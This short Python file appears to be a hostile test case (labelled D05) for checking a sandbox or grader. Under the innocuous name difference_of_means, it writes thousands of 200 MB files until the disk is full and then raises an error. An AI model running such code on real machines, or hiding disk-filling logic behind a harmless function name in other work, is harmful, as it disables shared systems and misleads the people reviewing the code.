"""D05: fill the disk, with one large file, many files, and many names."""

import os


def difference_of_means(acts, labels):
    written = 0
    for number in range(20_000):
        try:
            with open(f"file{number}", "wb") as file:
                for _ in range(200):
                    written += file.write(bytes(1 << 20))
        except OSError:
            if number > 200:
                break
    names = len(os.listdir("."))
    raise ValueError(f"wrote {written >> 20} MB in {names} files")
